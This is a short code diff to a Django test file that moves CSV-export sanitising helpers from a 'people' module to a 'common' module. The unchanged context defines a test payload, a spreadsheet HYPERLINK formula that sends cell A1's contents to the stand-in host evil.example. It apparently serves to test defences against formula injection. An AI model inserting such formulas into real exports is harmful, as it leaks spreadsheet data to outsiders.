@@ -12,15 +12,15 @@ from django.core.management import call_command
 from django.urls import reverse
 
 from charters import services as charters
+from common.csv_export import csv_safe_dict_writer, csv_safe_writer, spreadsheet_safe
 from dashboards.models import TermlyReport
-from people.csv_export import csv_safe_dict_writer, csv_safe_writer, spreadsheet_safe
 from tests.absence.world import SUMMER, terms
 from tests.charters.helpers import published_charter
 from tests.factories import StaffMemberFactory
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Open evidence")'
 REPO = Path(__file__).resolve().parents[2]
-HELPER = REPO / "people" / "csv_export.py"
+HELPER = REPO / "common" / "csv_export.py"
 
 
 @pytest.mark.parametrize(
